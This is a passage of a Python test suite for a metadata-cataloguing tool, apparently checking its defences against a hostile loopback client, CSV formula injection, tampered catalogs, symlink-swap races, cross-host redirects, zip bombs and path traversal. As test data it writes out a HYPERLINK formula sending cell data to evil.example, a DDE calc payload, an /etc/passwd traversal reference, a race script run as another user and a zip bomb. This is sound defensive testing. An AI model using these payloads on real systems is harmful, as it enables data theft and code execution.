    for png in thumbs.iterdir() if thumbs.exists() else ():
        assert Image.open(png).convert("RGB").getpixel((5, 5)) != (255, 0, 0), "the outside picture reached the catalog"


NEIGHBOUR = textwrap.dedent("""
    import base64, socket, sys, urllib.parse
    url = urllib.parse.urlsplit(sys.argv[1])
    _, token, name = url.path.split("/", 2)
    auth = base64.b64encode(f"me:{token}".encode()).decode()
    asks = {
        "path": f"GET /{token}/{name} HTTP/1.1\\r\\nHost: x\\r\\nRange: bytes=0-99\\r\\n\\r\\n",
        "proxy": f"GET http://metaextract.invalid/{name} HTTP/1.1\\r\\nHost: metaextract.invalid\\r\\n"
                 f"Proxy-Authorization: Basic {auth}\\r\\nRange: bytes=0-99\\r\\n\\r\\n",
    }
    for how, ask in asks.items():
        for source in ("127.0.0.1", "127.0.0.2"):
            s = socket.socket()
            try:
                s.bind((source, url.port if source != "127.0.0.1" else 0))  # the server's own port number, elsewhere
                s.connect(("127.0.0.1", url.port))
                s.sendall(ask.encode())
                print(how, source, s.recv(100).split(b"\\r\\n")[0].decode())
            except OSError as exc:
                print(how, source, "failed", exc)
            finally:
                s.close()
""")


def test_a_neighbour_with_the_url_and_token_cannot_use_the_loopback_server_from_any_address(tmp_path):
    """The first round checked the socket's owner by port alone: connecting from 127.0.0.2 with the server's own
    port number passed for the server's listening socket, and user nobody read the object."""
    import servers

    from metaextract_dask.storage.loopback import served

    if not os.path.exists("/proc/net/tcp"):
        pytest.skip("the socket owner check reads /proc/net/tcp (Linux)")
    (tmp_path / "secret.bin").write_bytes(b"private bytes " * 100)
    with servers.range_server(tmp_path) as server, served(f"{server.url}/secret.bin", 1400) as (url, _count):
        mine = run([sys.executable, "-c", NEIGHBOUR, url], timeout=60)
        theirs = run([*AS_NOBODY, "/usr/bin/python3", "-c", NEIGHBOUR, url], timeout=60, cwd="/")
    assert "path 127.0.0.1 HTTP/1.1 206" in mine.stdout and "proxy 127.0.0.1 HTTP/1.1 206" in mine.stdout, mine.stdout + mine.stderr
    lines = theirs.stdout.splitlines()
    assert len(lines) == 4 and "127.0.0.2" in theirs.stdout, theirs.stdout + theirs.stderr
    assert not any(" 206" in line or " 200" in line for line in lines), theirs.stdout


def test_the_loopback_token_never_reaches_a_command_line(tmp_path):
    """ffprobe and ffmpeg are given the object without the token (world-readable in /proc/PID/cmdline): it travels
    in their environment, as the password of their HTTP proxy, the loopback server."""
    import servers

    (tmp_path / "srv").mkdir()
    assert run(["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "testsrc=s=64x48:d=1", "-r", "10",
                str(tmp_path / "srv" / "clip.mp4")]).returncode == 0
    argv = tmp_path / "argv"
    shim = tmp_path / "bin"
    shim.mkdir()
    for tool in ("ffprobe", "ffmpeg"):
        real = shutil.which(tool)
        (shim / tool).write_text(f"#!/bin/sh\nprintf '%s\\n' \"$@\" >> {argv}\nexec {real} \"$@\"\n")
        (shim / tool).chmod(0o755)
    env = dict(os.environ, PATH=f"{shim}:{os.environ['PATH']}", DASK_METAEXTRACT__VIDEO__PROBER="ffprobe")
    with servers.range_server(tmp_path / "srv") as server:
        out = run(["metaextract", "info", f"{server.url}/clip.mp4", "--json"], env=env)
        thumbs = run([*SCAN, f"{server.url}/clip.mp4", "-o", str(tmp_path / "cat"), "--thumbnails"], env=env)
    assert out.returncode == 0, out.stderr[-2000:]
    record = json.loads(out.stdout)
    assert record["reader"] == "video" and record["video"]["streams"][0]["width"] == 64
    assert thumbs.returncode == 0, thumbs.stdout + thumbs.stderr[-2000:]
    import pandas as pd

    assert pd.read_parquet(tmp_path / "cat")["thumbnail"].iloc[0].endswith(".png")
    words = argv.read_text().splitlines()
    urls = [w for w in words if "://" in w or w.startswith("file:")]
    assert urls and all(u.startswith("http://metaextract.invalid/") for u in urls), urls
    assert not any("127.0.0.1" in w for w in words), words


def test_spreadsheet_formulas_in_attributes_are_neutralised_in_csv_exports(tmp_path):
    import csv

    netCDF4 = pytest.importorskip("netCDF4")
    data = tmp_path / "data"
    data.mkdir()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for i in range(3):  # a file's name becomes its dataset's name, a cell of the collection
        with netCDF4.Dataset(data / f"@SUM(1+1)-{i}.nc", "w") as ds:
            ds.createDimension("time", 2)
            ds.createVariable("tas", "f4", ("time",))[:] = [1.0, 2.0]
            ds.title, ds.institution = formula, "@SUM(1+1)*cmd|' /C calc'!A0"
            ds.source = "model"  # a word: a grouping column
    out = run([*SCAN, str(data), "-o", str(tmp_path / "cat")])
    assert out.returncode == 0, out.stderr[-2000:]
    out = run(["metaextract", "export", str(tmp_path / "cat"), "--to", "esm"])
    assert out.returncode == 0, out.stderr[-2000:]
    with open(tmp_path / "cat.esm" / "collection.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 3 and rows[0]["source"] == "model" and "title" not in rows[0]  # a formula is no word: no group
    assert sorted(row["dataset"] for row in rows) == ["'@SUM(1+1)-0", "'@SUM(1+1)-1", "'@SUM(1+1)-2"]  # kept, as text
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells


def test_kills_during_a_rescan_that_changes_every_file_never_show_two_rows_of_one_file(tmp_path):
    import random

    from metaextract_dask import read_catalog
    from metaextract_dask.catalog.read import part_files

    data = tmp_path / "data"
    data.mkdir()
    files = [str(data / f"f{i:03d}.bin") for i in range(240)]
    for path in files:
        with open(path, "wb") as f:
            f.write(os.urandom(64))
    cat = str(tmp_path / "cat")
    args = [*SCAN, str(data), "-o", cat, "--flush-every", "10", "-j", "1"]
    assert run(args).returncode == 0
    rng = random.Random(28)
    mixed = 0
    for round_ in range(4):
        for path in files:  # every file changes: one more byte
            with open(path, "ab") as f:
                f.write(b"x")
        before = len(part_files(cat))
        proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        deadline = time.time() + 120
        wanted = rng.randint(1, 8)
        while time.time() < deadline and proc.poll() is None and len(part_files(cat)) < before + wanted:
            time.sleep(0.005)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        frame = read_catalog(cat)
        assert not frame["path"].duplicated().any(), f"round {round_}: {frame['path'].duplicated().sum()} duplicated rows"
        assert sorted(frame["path"]) == files
        sizes = {os.path.getsize(p) for p in files}
        mixed += frame["size"].isin(sizes).any() and not frame["size"].isin(sizes).all()
    assert mixed, "no kill landed in the middle of a re-scan"


# --- round two, 1 and 2: open and the exports obey the scan's guard; a catalog is input ------

#: open every row, then every export, printing what was refused: run under strace
OPEN_AND_EXPORT = textwrap.dedent("""
    import sys, warnings
    import metaextract_dask as me
    cat = sys.argv[1]
    warnings.simplefilter("always")
    for row in me.read_catalog(cat).to_dict("records"):
        try:
            ds = me.open(cat, row)
            ds.load()
            print("OPENED", row["path"])
        except ValueError as exc:
            print("REFUSED", row["path"], type(exc).__name__, str(exc)[:300])
    for name in sys.argv[2:]:  # rows edited to name files outside the roots: found by path
        try:
            me.open(cat, name)
            print("OPENED", name)
        except ValueError as exc:
            print("REFUSED", name, type(exc).__name__, str(exc)[:300])
    for to in ("esm", "stac", "kerchunk"):
        with warnings.catch_warnings(record=True) as notes:
            me.export(cat, to, cat + "." + to)
        for note in notes:
            print("NOTICE", to, str(note.message)[:300])
""")


def traced(tmp_path, script: str, *args: str, env=None) -> tuple[str, str]:
    """(stdout, every path the process tree opened), by strace."""
    if shutil.which("strace") is None:
        pytest.skip("strace is needed to see what is opened")
    log = tmp_path / "strace.log"
    out = run(["strace", "-f", "-qq", "-e", "trace=open,openat,openat2,execve", "-o", str(log),
               sys.executable, "-c", script, *args], env=env, timeout=600)
    assert out.returncode == 0, out.stdout[-2000:] + out.stderr[-3000:]
    return out.stdout, log.read_text(errors="replace")


def test_open_and_the_exports_refuse_what_the_scan_refuses(tmp_path, secret, marker_plugin):
    folder, marker = marker_plugin
    data = tmp_path / "data"
    data.mkdir()
    with h5py.File(data / "external.nc", "w") as f:  # external raw storage only, named as netCDF
        f.create_dataset("x", shape=(16,), dtype="u1", external=[(secret, 0, 16)])
    with h5py.File(data / "linked.nc", "w") as f:
        f["x"] = np.arange(4.0)
        f["ext"] = h5py.ExternalLink(secret, "/data")
    hostile_hdf5(str(data / "all.h5"), secret)
    make = textwrap.dedent(f"""
        import h5py, numpy as np
        from h5py import h5pl
        h5pl.append({folder!r}.encode())
        with h5py.File({str(data / "filtered.nc")!r}, "w") as f:
            f.create_dataset("x", data=np.arange(100.0), chunks=(10,), compression=32123)
    """)
    assert run([sys.executable, "-c", make]).returncode == 0
    marker.unlink()
    make_nc(str(data / "clean.nc"), 3)
    cat = str(tmp_path / "cat")
    env = dict(os.environ, HDF5_PLUGIN_PATH=folder)
    out = run([*SCAN, str(data), "-o", cat, "--references"], env=env)
    assert out.returncode == 0, out.stderr[-2000:]
    stdout, trace = traced(tmp_path, OPEN_AND_EXPORT, cat, env=env)
    assert secret not in trace, [line for line in trace.splitlines() if secret in line][:5]
    assert not marker.exists(), "open or an export loaded a filter plugin from HDF5_PLUGIN_PATH"
    refused = {os.path.basename(line.split()[1]) for line in stdout.splitlines() if line.startswith("REFUSED")}
    assert refused == {"external.nc", "linked.nc", "all.h5", "filtered.nc"}, stdout
    assert f"OPENED {data / 'clean.nc'}" in stdout, stdout
    assert "points outside itself" in stdout and "follow_outside=True" in stdout
    import csv

    with open(cat + ".esm/collection.csv", newline="") as f:
        assert [os.path.basename(r["file"]) for r in csv.DictReader(f)] == ["clean.nc"]


def test_an_edited_catalog_reads_nothing_outside_the_scanned_roots(tmp_path, secret):
    import pandas as pd

    from metaextract_dask.catalog.read import part_files

    data = tmp_path / "data"
    data.mkdir()
    for i in range(4):
        make_h5(str(data / f"f{i}.h5"), 500)  # 40 kB: chunks referenced, not inlined
    cat = str(tmp_path / "cat")
    out = run([*SCAN, str(data), "-o", cat, "--references"])
    assert out.returncode == 0, out.stderr[-2000:]
    refs = tmp_path / "cat.references"
    entries = {row["path"]: row["references"] for row in pd.read_parquet(part_files(cat)).to_dict("records")}
    assert all(entries.values()), entries

    def edit(path: str, target: str) -> None:
        doc = json.loads((refs / entries[path]).read_text())
        for key, value in doc["refs"].items():
            if isinstance(value, list):
                doc["refs"][key] = [target, *value[1:]]
        (refs / entries[path]).write_text(json.dumps(doc))

    edit(str(data / "f0.h5"), secret)  # chunks read from a file outside
    edit(str(data / "f1.h5"), "http://127.0.0.1:9/secret")  # or from a server
    (refs / entries[str(data / "f2.h5")]).unlink()
    os.symlink(secret, refs / entries[str(data / "f2.h5")])  # the entry itself a link
    outside = tmp_path / "outside" / "copy.h5"  # a row renamed to a file outside the roots
    make_h5(str(outside), 5)
    part = part_files(cat)[0]
    frame = pd.read_parquet(part)
    extra = frame[frame["path"] == str(data / "f3.h5")].copy()
    extra["path"], extra["path_bytes"] = str(outside), os.fsencode(str(outside))
    extra["references"] = None
    pd.concat([frame, extra]).to_parquet(part, index=False)

    stdout, trace = traced(tmp_path, OPEN_AND_EXPORT, cat, str(outside))
    opened = [line for line in trace.splitlines() if secret in line or str(outside) in line]
    assert not opened, opened[:5]
    refused = sorted(os.path.basename(line.split()[1]) for line in stdout.splitlines() if line.startswith("REFUSED"))
    assert refused == ["copy.h5", "copy.h5", "f0.h5", "f1.h5", "f2.h5"], stdout
    assert "OPENED " + str(data / "f3.h5") in stdout
    kerchunk = tmp_path / "cat.kerchunk"
    assert sorted(os.listdir(kerchunk)) == sorted([entries[str(data / "f3.h5")], "index.csv"])
    assert not any(os.path.islink(kerchunk / name) for name in os.listdir(kerchunk))
    assert "TOPSECRET" not in "".join((kerchunk / n).read_text(errors="replace") for n in os.listdir(kerchunk))
    stac = json.dumps([json.loads(p.read_text()) for p in (tmp_path / "cat.stac").rglob("*.json")])
    assert str(outside) not in stac


def _rewrite_part(cat: str, **columns) -> None:
    """Set columns of every row of the catalog's first part (values or functions of the old value)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from metaextract_dask.catalog.read import part_files

    part = part_files(cat)[0]
    table = pq.read_table(part)
    for name, value in columns.items():
        old = table.column(name).to_pylist() if name in table.column_names else [None] * table.num_rows
        new = pa.array([value(v) if callable(value) else value for v in old])
        table = table.set_column(table.column_names.index(name), name, new) if name in table.column_names else \
            table.append_column(name, new)
    pq.write_table(table, part)


def _write(path, text) -> None:
    with open(path, "w") as f:
        f.write(text)


DEEP = "[" * 200_000 + "]" * 200_000


def _tampers(secret: str) -> dict:
    import pyarrow as pa
    import pyarrow.parquet as pq

    def foreign(cat):
        pq.write_table(pa.table({"a": [1, 2], "b": ["x", "y"]}), os.path.join(cat, "part-90000-ffffffff.parquet"))

    def wrong_types(cat):
        pq.write_table(pa.table({"path": [1, 2], "size": ["big", "small"], "success": ["yes", None]}),
                       os.path.join(cat, "part-90000-ffffffff.parquet"))

    def references_folder_link(cat):
        refs = cat + ".references"
        for name in os.listdir(refs):
            os.unlink(os.path.join(refs, name))
            os.makedirs(os.path.join(refs, name))
            os.symlink(secret, os.path.join(refs, name, "refs.0.parq"))

    def variables_foreign(cat):
        pq.write_table(pa.table({"path": ["x"], "nonsense": [1]}), os.path.join(cat + ".variables", "part-90000-ffffffff.parquet"))

    return {
        "manifest not JSON": lambda cat: _write(os.path.join(cat, "_manifest.json"), "{{{ not json"),
        "manifest null": lambda cat: _write(os.path.join(cat, "_manifest.json"), "null"),
        "manifest nested 200,000 deep": lambda cat: _write(os.path.join(cat, "_manifest.json"), DEEP),
        "manifest roots not paths": lambda cat: _write(os.path.join(cat, "_manifest.json"), json.dumps({"roots": [1, None]})),
        "manifest a link to a secret": lambda cat: (os.unlink(os.path.join(cat, "_manifest.json")),
                                                   os.symlink(secret, os.path.join(cat, "_manifest.json"))),
        "part a link to a secret": lambda cat: os.symlink(secret, os.path.join(cat, "part-90000-ffffffff.parquet")),
        "part a folder": lambda cat: os.makedirs(os.path.join(cat, "part-90000-ffffffff.parquet")),
        "part empty": lambda cat: _write(os.path.join(cat, "part-90000-ffffffff.parquet"), ""),
        "part of a foreign schema": foreign,
        "part with wrong column types": wrong_types,
        "paths and flags null": lambda cat: _rewrite_part(cat, path=pa.nulls(1, pa.string())[0].as_py(), success=None),
        "records null": lambda cat: _rewrite_part(cat, metadata="null"),
        "records lists": lambda cat: _rewrite_part(cat, metadata="[1, 2, 3]"),
        "records not JSON": lambda cat: _rewrite_part(cat, metadata="{oops"),
        "records nested 200,000 deep": lambda cat: _rewrite_part(cat, metadata=DEEP),
        "records of the wrong shape": lambda cat: _rewrite_part(cat, metadata=json.dumps(
            {"reader": "netcdf", "netcdf": {"cf_coverage": {"time": {"start": 5, "end": [1], "variable": {}},
                                                            "latitude": {"min": "x", "max": 1e308}, "longitude": []},
                                            "attrs": [], "variables": "no"}})),
        "numbers not finite": lambda cat: _rewrite_part(cat, duration=float("inf"), mtime=float("nan"), lat_min=float("-inf")),
        "references named outside": lambda cat: _rewrite_part(cat, references="../../../../etc/passwd"),
        "references missing": lambda cat: _rewrite_part(cat, references="123"),
        "references a folder of links": references_folder_link,
        "variables part foreign": variables_foreign,
    }


def test_a_tampered_catalog_gives_one_line_per_problem_never_a_traceback(tmp_path, secret):
    """Each edit of a catalog, through every command that reads one: exit 0 or 2, one ``metaextract:`` line per problem."""
    netCDF4 = pytest.importorskip("netCDF4")
    data = tmp_path / "data"
    data.mkdir()
    with netCDF4.Dataset(data / "clim.nc", "w", format="NETCDF4") as ds:  # a climatology: years 0 and 1
        ds.createDimension("time", 2)
        ds.createDimension("lat", 3)
        t = ds.createVariable("time", "f8", ("time",))
        t.units, t.calendar = "hours since 1800-01-01", "standard"
        t[:] = [-15774840.0, -15765000.0]
        lat = ds.createVariable("lat", "f4", ("lat",))
        lat.units, lat[:] = "degrees_north", [-10, 0, 10]
        ds.createVariable("sst", "f4", ("time", "lat"), chunksizes=(1, 3))[:] = np.ones((2, 3))
    make_h5(str(data / "big.h5"), 500)
    clean = str(tmp_path / "clean")
    out = run([*SCAN, str(data), "-o", clean, "--references"])
    assert out.returncode == 0, out.stderr[-2000:]
    tampers = _tampers(secret)
    cats = {}
    for i, (name, tamper) in enumerate(tampers.items()):
        cat = str(tmp_path / f"cat{i}")
        for suffix in ("", ".references", ".variables"):
            shutil.copytree(clean + suffix, cat + suffix, symlinks=True)
        tamper(cat)
        cats[name] = cat
    cats["untouched (a real climatology's years 0 and 1)"] = clean
    _write(tmp_path / "model.costs.json", DEEP)
    script = textwrap.dedent("""
        import contextlib, io, json, sys, warnings
        import metaextract_dask as me
        from metaextract_dask.cli import main
        cats, data, model = json.loads(sys.argv[1]), sys.argv[2], sys.argv[3]
        for name, cat in cats.items():
            for args in (["report", cat], ["export", cat, "--to", "esm"], ["export", cat, "--to", "stac"],
                         ["export", cat, "--to", "kerchunk"], ["scan", data, "-o", cat, "-q", "--metadata-only"],
                         ["scan", data, "-o", cat + ".new", "-q", "--learn-from", model, "--learn-from", cat]):
                err = io.StringIO()
                with contextlib.redirect_stderr(err), warnings.catch_warnings():
                    code = main(args)
                print(json.dumps({"tamper": name, "args": args[:4], "code": code, "stderr": err.getvalue()}))
            for call in ("read_catalog", "open"):
                try:
                    frame = me.read_catalog(cat)
                    if call == "open":
                        for row in frame.to_dict("records"):
                            with contextlib.suppress(ValueError):  # refusals are ValueErrors with one line
                                me.open(cat, row).load()
                except ValueError as exc:
                    pass
                print(json.dumps({"tamper": name, "args": [call], "code": 0, "stderr": ""}))
    """)
    out = run([sys.executable, "-c", script, json.dumps(cats), str(data), str(tmp_path / "model.costs.json")], timeout=900)
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr[-4000:]
    results = [json.loads(line) for line in out.stdout.splitlines() if line.startswith("{")]
    assert len(results) == len(cats) * 8, out.stdout[-2000:]
    wrong = []
    for r in results:
        lines = [line for line in r["stderr"].splitlines() if line.strip()]
        if r["code"] not in (0, 2) or not all(line.startswith("metaextract:") for line in lines):
            wrong.append(f"{r['tamper']}: metaextract {' '.join(r['args'][:2])} exit {r['code']}: {lines[-5:]}")
    assert not wrong, "\n".join(wrong)


# --- round two, 5: the folder's owner swaps a file for a link between the walk and the read ----

SWAPPER = textwrap.dedent("""
    import os, sys, time
    folder, target, names = sys.argv[1], sys.argv[2], sys.argv[3:]
    os.chdir(folder)
    for name in names:
        os.link(name, "." + name + ".real")
    end = time.time() + 600
    while time.time() < end and os.path.exists("victim-0.h5"):
        for name in names:  # each rename replaces the name at once: it always exists, a file or a link
            os.symlink(target, ".l")
            os.rename(".l", name)
            os.link("." + name + ".real", ".r")
            os.rename(".r", name)
""")

SCANS = textwrap.dedent("""
    import json, sys
    import metaextract_dask as me
    data, out, rounds = sys.argv[1], sys.argv[2], int(sys.argv[3])
    leaks, changed = 0, 0
    for i in range(rounds):
        frame = me.scan(data, output=f"{out}/cat{i}", progress=False, dashboard_address=False)
        text = me.read_catalog(f"{out}/cat{i}").to_json() + me.read_variables(f"{out}/cat{i}").to_json()
        leaks += "PRIVATE-MARKER" in text
        changed += int((frame["error_type"] == "FileChangedError").sum())
    print(json.dumps({"leaks": leaks, "changed": changed}))
""")


def test_a_file_swapped_for_a_link_between_walk_and_read_never_puts_the_target_in_the_catalog():
    import pwd
    import tempfile

    nobody = pwd.getpwnam("nobody")
    base = tempfile.mkdtemp(prefix="metaextract-race-")
    try:
        os.chmod(base, 0o755)
        private = os.path.join(base, "private")
        os.mkdir(private, 0o700)
        target = os.path.join(private, "secret.h5")
        with h5py.File(target, "w") as f:
            f.attrs["note"] = "PRIVATE-MARKER"
            f.create_dataset("PRIVATE-MARKER-data", data=np.arange(1000.0))
        os.chmod(target, 0o600)
        data = os.path.join(base, "data")
        os.mkdir(data)
        names = [f"victim-{i}.h5" for i in range(8)]
        for name in names:
            with h5py.File(os.path.join(data, name), "w") as f:
                f.attrs["note"] = "public"
                f.create_dataset("x", data=np.arange(1000.0))
            os.chown(os.path.join(data, name), nobody.pw_uid, nobody.pw_gid)
        os.chown(data, nobody.pw_uid, nobody.pw_gid)
        out = os.path.join(base, "out")
        os.mkdir(out, 0o700)
        swapper = subprocess.Popen([*AS_NOBODY, "/usr/bin/python3", "-c", SWAPPER, data, target, *names], cwd="/",
                                   stderr=subprocess.PIPE, text=True)
        try:
            time.sleep(0.5)
            assert swapper.poll() is None, swapper.stderr.read()
            scans = run([sys.executable, "-c", SCANS, data, out, "50"], timeout=900)
        finally:
            swapper.kill()
            swapper.wait()
        assert scans.returncode == 0, scans.stderr[-3000:]
        result = json.loads(scans.stdout.strip().splitlines()[-1])
        assert result["leaks"] == 0, result
        assert result["changed"] > 0, f"the swaps never landed between walk and read: {result}"
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_a_same_size_rewrite_with_its_mtime_put_back_is_extracted_again(tmp_path):
    from metaextract_dask import read_catalog

    data = tmp_path / "data"
    data.mkdir()
    path = data / "f.bin"
    path.write_bytes(b"a" * 4096)
    cat = str(tmp_path / "cat")
    assert run([*SCAN, str(data), "-o", cat]).returncode == 0
    before = read_catalog(cat)["checksum"].tolist()
    st = os.stat(path)
    path.write_bytes(b"b" * 4096)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert (os.stat(path).st_size, os.stat(path).st_mtime_ns) == (st.st_size, st.st_mtime_ns)
    out = run([*SCAN, str(data), "-o", cat])
    assert out.returncode == 0, out.stderr
    after = read_catalog(cat)["checksum"].tolist()
    assert len(after) == 1 and after != before, (before, after)


# --- round two, 7: remote stalls, trees without end, redirects elsewhere -----------------------


def _tree_handler(folder: str, delay: float):
    """Every folder ``/t/d/d/.../`` lists ``d/`` and ``f.bin`` (the tree has no end); every ``f.bin`` is one real file."""
    import servers

    class Endless(servers.RangeHandler):
        def _serve(self, body: bool) -> None:
            if self.path.startswith("/t/") and self.path.endswith("/"):
                time.sleep(delay)
                page = b'<html><body><a href="d/">d/</a> <a href="f.bin">f.bin</a></body></html>'
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                if body:
                    self.wfile.write(page)
                return
            if self.path.endswith("/f.bin"):
                self.path = "/f.bin"
            elif self.path in ("/far.bin", "/near.bin"):  # redirects: to another server, to this one
                self.send_response(302)
                self.send_header("Location", self.server.far if self.path == "/far.bin" else "/f.bin")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            super()._serve(body)

    return lambda *a, **k: Endless(*a, directory=folder, **k)


@contextlib.contextmanager
def _server(handler):
    import http.server
    import threading

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    server.log, server.latency = [], 0.0
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def _rows(cat):
    from metaextract_dask import read_catalog

    return read_catalog(cat).to_dict("records")


def test_a_tree_without_end_and_a_silent_server_end_within_the_timeout_with_the_rows_so_far(tmp_path):
    (tmp_path / "f.bin").write_bytes(os.urandom(4096))
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(64)  # accepts (the kernel does) and never answers
    env = dict(os.environ, DASK_METAEXTRACT__REMOTE__MAX_DEPTH="100000")
    with _server(_tree_handler(str(tmp_path), 0.05)) as server:
        t0 = time.monotonic()
        out = run([*SCAN, f"{server.url}/t/", "-o", str(tmp_path / "tree"), "--timeout", "4"], timeout=120, env=env)
        tree_seconds = time.monotonic() - t0
    t0 = time.monotonic()
    quiet = run([*SCAN, f"http://127.0.0.1:{silent.getsockname()[1]}/data/", "-o", str(tmp_path / "silent"), "--timeout", "3"],
                timeout=120)
    silent_seconds = time.monotonic() - t0
    silent.close()
    assert "Traceback" not in out.stderr + quiet.stderr, out.stderr[-2000:] + quiet.stderr[-2000:]
    rows = _rows(tmp_path / "tree")
    found = [r for r in rows if r["success"]]
    cut = [r for r in rows if not r["success"]]
    assert len(found) >= 10 and all(r["path"].endswith("/f.bin") for r in found), [r["path"] for r in rows][:5]
    assert len(cut) == 1 and "listing stopped after 4 s" in cut[0]["error"], cut
    assert tree_seconds < 4 + 30, tree_seconds
    rows = _rows(tmp_path / "silent")
    assert len(rows) == 1 and not rows[0]["success"], rows
    assert silent_seconds < 3 + 15, (silent_seconds, quiet.stderr[-1000:])


def test_a_redirect_to_another_host_is_refused_and_one_to_the_same_host_followed(tmp_path):
    (tmp_path / "f.bin").write_bytes(b"public " * 600)
    far = tmp_path / "far"
    far.mkdir()
    (far / "secret.bin").write_bytes(b"FAR-SECRET " * 400)
    import servers

    with servers.range_server(far) as other, _server(_tree_handler(str(tmp_path), 0.0)) as server:
        server.far = f"{other.url}/secret.bin"
        out = run([*SCAN, f"{server.url}/far.bin", f"{server.url}/near.bin", "-o", str(tmp_path / "cat"), "--timeout", "10"])
        assert not [entry for entry in other.log if entry[1] == "/secret.bin"], other.log
    rows = {r["path"].rsplit("/", 1)[-1]: r for r in _rows(tmp_path / "cat")}
    assert rows["near.bin"]["success"] and rows["near.bin"]["size"] == 4200, rows["near.bin"]
    assert not rows["far.bin"]["success"] and "another host" in rows["far.bin"]["error"], rows["far.bin"]
    assert out.returncode == 1, out.stderr[-2000:]


# --- round two, 8 and 10: archive bombs, archives of many members, odd member names -------------


def _zip_with_an_empty_name(path) -> None:
    """A zip whose first member's name is empty (Python's zipfile cannot write one: its name's length is patched to 0)."""
    import io
    import struct
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in (("E", "empty name"), ("a::b.txt", "colons"), ("../up.txt", "up"), ("ok.txt", "fine")):
            z.writestr(name, text)
    data = bytearray(buf.getvalue())
    for at in (26, data.find(b"PK\x01\x02") + 28):  # local header, central directory: name length 0, the byte becomes extra
        n, extra = struct.unpack_from("<HH", data, at)
        assert n == 1
        struct.pack_into("<HH", data, at, 0, extra + 1)
    path.write_bytes(bytes(data))


def test_archive_bombs_many_members_and_odd_names_are_bounded_and_each_recorded(tmp_path):
    import io
    import tarfile
    import zipfile

    from metaextract_dask import read_catalog

    data = tmp_path / "data"
    data.mkdir()
    with zipfile.ZipFile(data / "bomb.zip", "w", compression=zipfile.ZIP_DEFLATED) as z:  # 1 MB holding 1 GiB
        with z.open("big.bin", "w", force_zip64=True) as f:
            for _ in range(1024):
                f.write(bytes(1 << 20))
        z.writestr("small.txt", "hello")
    assert os.path.getsize(data / "bomb.zip") < 2 << 20
    with zipfile.ZipFile(data / "many.zip", "w") as z:
        for i in range(20_000):
            z.writestr(f"m/{i:05d}.txt", f"member {i}\n")
    _zip_with_an_empty_name(data / "odd.zip")
    with tarfile.open(data / "odd.tar", "w") as t:
        for name, body in (("../x", b"escape"), ("good.txt", b"good")):
            info = tarfile.TarInfo(name)
            info.size = len(body)
            t.addfile(info, io.BytesIO(body))
    cat = str(tmp_path / "cat")
    t0 = time.monotonic()
    out = run([*SCAN, str(data), "-o", cat, "--into-archives", "--timeout", "60"], timeout=600)
    seconds = time.monotonic() - t0
    assert "Traceback" not in out.stderr, out.stderr[-3000:]
    assert out.returncode == 1, out.stderr[-2000:]  # the members not read are failures
    frame = read_catalog(cat)
    rows = {r["path"]: r for r in frame.to_dict("records")}
    assert sum(p.startswith("zip://m/") for p in rows) == 20_000
    ok = {p for p, r in rows.items() if r["success"]}
    assert {f"zip://small.txt::{data}/bomb.zip", f"zip://ok.txt::{data}/odd.zip", f"tar://good.txt::{data}/odd.tar"} <= ok
    failed = {p.split("::")[0]: r["error"] for p, r in rows.items() if not r["success"]}
    assert "decompress" in failed["zip://big.bin"] and "max-ratio" in failed["zip://big.bin"], failed
    assert "empty" in failed["zip://%00empty"] and "outside" in failed["tar://../x"], failed
    assert "'::'" in failed["zip://a%3A%3Ab.txt"] and "outside" in failed["zip://../up.txt"], failed
    assert len(failed) == 5, failed
    assert seconds < 300, f"20,000 members and a bomb took {seconds:.0f} s"


def _deep_tree(root: str, levels: int, file_every: int = 1) -> None:
    """A chain of ``levels`` nested folders ``d``, a small file ``f`` in every ``file_every``-th (made through folder descriptors)."""
    os.mkdir(root)
    fd = os.open(root, os.O_RDONLY)
    try:
        for level in range(levels):
            if level % file_every == file_every - 1:
                with open(os.open("f", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
                    f.write("x" * 64)
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nxt
    finally:
        os.close(fd)


def test_a_folder_beyond_path_max_is_an_error_row_not_left_out(tmp_path):
    from metaextract_dask import read_catalog

    root = str(tmp_path / "long")
    _deep_tree(root, 2200, file_every=100)  # paths pass 4,096 bytes past level ~2,020
    cat = str(tmp_path / "cat")
    try:
        out = run([*SCAN, root, "-o", cat], timeout=600)
        assert "Traceback" not in out.stderr, out.stderr[-2000:]
        assert out.returncode == 1, out.stderr[-2000:]
        frame = read_catalog(cat)
        assert int(frame["success"].sum()) >= 20
        errors = frame[~frame["success"].astype(bool)]
        assert len(errors) == 1 and "PATH_MAX" in errors["error"].iloc[0], errors[["path", "error"]]
    finally:
        _remove_deep(root)


def test_too_few_file_descriptors_is_one_line(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    make_nc(str(data / "a.nc"), 3)
    out = run(["bash", "-c", f"ulimit -n 12; exec {' '.join(SCAN)} {data} -o {tmp_path / 'cat'}"])
    assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr[-2000:]
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1 and "ulimit -n" in lines[0], lines


def test_a_scan_of_a_tree_1500_levels_deep_stats_each_entry_a_bounded_number_of_times(tmp_path):
